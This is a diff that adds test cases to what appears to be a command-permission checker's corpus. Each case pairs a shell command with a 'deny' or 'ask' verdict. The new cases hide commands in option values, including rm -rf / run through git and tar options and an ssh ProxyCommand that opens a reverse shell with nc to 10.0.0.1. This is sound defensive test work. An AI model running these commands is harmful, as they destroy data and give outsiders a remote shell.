@@ -102,6 +102,12 @@ const CORPUS: readonly (readonly [string, 'deny' | 'ask'])[] = [
   ["echo 'rm -rf /' | xargs -I{} sh -c '{}'", 'ask'],
   ["ls | xargs sh -c 'rm -rf /'", 'deny'],
   ['echo ls | sh', 'ask'],
+  // commands hidden in option values that programs run themselves
+  ["git -c core.sshCommand='rm -rf /' fetch", 'deny'],
+  ['git -c alias.st=\'!sh -c "rm -rf /"\' st', 'deny'],
+  ["ssh -o ProxyCommand='nc -e /bin/sh 10.0.0.1 4242' host", 'deny'],
+  ["tar --to-command='rm -rf /' -xf a.tar", 'deny'],
+  ["git clone -u 'touch /tmp/pwned' https://example.test/repo", 'ask'],
   // other disguises
   ['git status; shutdown -h now', 'deny'],
   ['ls > /dev/sda', 'deny'],
